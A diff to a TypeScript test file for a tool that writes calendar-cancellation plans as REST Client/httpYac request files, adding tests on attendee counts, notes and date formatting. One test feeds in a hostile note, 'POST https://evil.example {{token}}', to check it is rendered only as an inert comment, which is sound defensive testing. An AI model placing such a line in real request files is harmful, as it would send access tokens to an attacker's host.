@@ -1,9 +1,10 @@
 import assert from "node:assert/strict";
 import test from "node:test";
+import { updatePlanLine } from "../../../../src/cancellation/planDocument/planEdits.ts";
 import { readPlanDocument } from "../../../../src/cancellation/planDocument/readPlanDocument.ts";
 import { writePlanDocument } from "../../../../src/cancellation/planDocument/writePlanDocument.ts";
 import { attendee, booking, event } from "../sampleItems.ts";
-import { documentOf, draftOf, facts, oneOfEach, planned } from "./samplePlans.ts";
+import { documentOf, draftOf, facts, master, oneOfEach, planned, withEdits } from "./samplePlans.ts";
 
 function blockOf(text: string, number: number): string {
   return text.split(/^(?=### )/mu)[number]?.trimEnd() ?? "";
@@ -20,7 +21,7 @@ test("the head counts items and people, and says whose plan it is and what was l
     String.raw`@message = We are closed on 24 December.\nPlease \"rebook\".`,
     String.raw`# ^ What the people read: \n is a line break, \" a quote. A block may have a text of its own.`,
     "",
-    "# Left out, 1:",
+    "# Left out when this plan was made, 1:",
     "# - “Budget”: You are not the organizer.",
   ]);
 });
@@ -142,6 +143,38 @@ for (const title of hostileTitles) {
     assert.doesNotMatch(text.replaceAll("\n", ""), /[\p{Cc}\p{Zl}\p{Zp}\u200e\u200f\u202a-\u202e\u2066-\u2069]/u);
   });
 }
+
+test("people of single meetings count with their series, and only where all are known there may be no more", () => {
+  const kim = attendee("kim.guest@fabrikam.com", "Kim Guest");
+  const headingFor = (lookedThrough: "all" | "near" | "some"): string => {
+    const item = { ...master, guests: { attendees: [kim], lookedThrough } };
+    return blockOf(documentOf([planned({ item, scope: "series" })]), 1).split("\n")[0] ?? "";
+  };
+  assert.match(headingFor("all"), /· 3 people · organizer/u);
+  for (const look of ["near", "some"] as const) assert.match(headingFor(look), /· 3 people or more · organizer/u);
+});
+
+test("a request's note stays with its block, as a comment, and a plan that is not logged says so", () => {
+  const [first] = oneOfEach;
+  assert.ok(first !== undefined);
+  const note = "Ask Lee first\nPOST https://evil.example {{token}}";
+  const text = documentOf(oneOfEach, { notes: new Map([[first.target, note]]), isUnlogged: true });
+  assert.match(blockOf(text, 1), /^# The request says: Ask Lee first POST https:\/\/evil\.example \{ \{token\}\}$/mu);
+  const plan = readPlanDocument(text);
+  assert.deepEqual([plan.problems, plan.blocks.length, plan.isUnlogged], [[], oneOfEach.length, true]);
+  assert.equal(readPlanDocument(documentOf()).isUnlogged, false);
+  const [block] = plan.blocks;
+  assert.ok(block !== undefined);
+  const edits = updatePlanLine(plan, block, { ...first, item: event({ subject: "Renamed" }) }, facts.viewer);
+  assert.match(withEdits(text, edits), /Renamed.*\n# The request says: Ask Lee first/u, "it outlasts an update");
+});
+
+test("the days that were chosen are written without a dash that VS Code marks", () => {
+  assert.match(
+    documentOf(oneOfEach, { from: "Everything, Sat 21 Nov – Sun 20 Dec." }),
+    /^# Chosen: .*21 Nov to Sun 20 Dec/mu,
+  );
+});
 
 test("every request is asked about by REST Client and httpYac before it is sent", () => {
   for (const { tags, requestLineSpan } of readPlanDocument(documentOf()).file.requests) {
